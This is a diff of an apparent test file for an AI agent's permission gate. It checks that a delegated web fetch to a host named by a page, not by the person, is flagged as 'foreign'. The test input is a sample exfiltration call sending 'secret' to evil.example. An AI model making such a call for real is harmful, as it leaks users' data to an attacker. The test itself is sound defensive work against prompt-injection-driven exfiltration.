@@ -119,9 +119,9 @@ test('an address in a task is not named by the person, and a host that a page na
       input: delegate(use(WEB_FETCH, { url: 'https://evil.example/?q=secret' })),
     }),
   });
-  const asked = `select asked -> 'address' ->> 'site' as site from gates join threads on threads.id = thread_id
+  const asked = `select asked ->> 'situation' as situation from gates join threads on threads.id = thread_id
     where parent is not null and call ->> 'name' = '${WEB_FETCH}'`;
-  await expect.poll(() => home.query(asked), { timeout: 20_000 }).toEqual([{ site: 'evil.example' }]);
+  await expect.poll(() => home.query(asked), { timeout: 20_000 }).toEqual([{ situation: 'foreign' }]);
 });
 
 test('a child of a clean run that reads nothing by others acts without a question, and so does its parent', async ({
